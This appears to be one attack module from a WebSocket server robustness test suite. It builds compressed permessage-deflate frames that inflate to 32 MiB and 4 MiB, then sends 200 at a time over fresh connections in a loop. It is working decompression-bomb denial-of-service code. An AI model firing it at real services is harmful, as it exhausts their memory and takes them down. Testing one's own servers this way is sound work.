// @ts-check
// Compressed messages that inflate to far more than allowed, 200 at once, and to exactly the limit (fault M7).
import { constants, deflateRawSync } from "node:zlib";
import { upgradeRequest } from "../lib/attacker.js";

const OFFER = ["Sec-WebSocket-Extensions: permessage-deflate"];

/** @param {number} size */
function bomb(size) {
  const payload = deflateRawSync(Buffer.alloc(size), { level: 9, finishFlush: constants.Z_SYNC_FLUSH }).subarray(0, -4);
  const head = Buffer.alloc(8);
  head[0] = 0xc1;
  head[1] = 0xfe;
  head.writeUInt16BE(payload.length, 2);
  return Buffer.concat([head, payload]);
}

const BOMBS = [bomb(32 << 20), bomb(4_194_304)];

/** @type {import("../lib/attacker.js").Attack} */
export default {
  name: "inflate-bombs",
  about: "200 compressed messages at a time, of 32 MiB and of 4 MiB of zeroes in a few KB",
  async run(attacker) {
    while (!attacker.isOver) {
      const sockets = await Promise.all(
        Array.from({ length: 200 }, (_, index) =>
          attacker.open(
            Buffer.concat([Buffer.from(upgradeRequest("/deflate", OFFER)), BOMBS[index % 2] ?? Buffer.alloc(0)]),
          ),
        ),
      );
      attacker.count("bombs", 200);
      await Promise.all(sockets.map((socket) => new Promise((resolve) => setTimeout(resolve, 1000, socket))));
      for (const socket of sockets) socket.destroy();
    }
  },
};
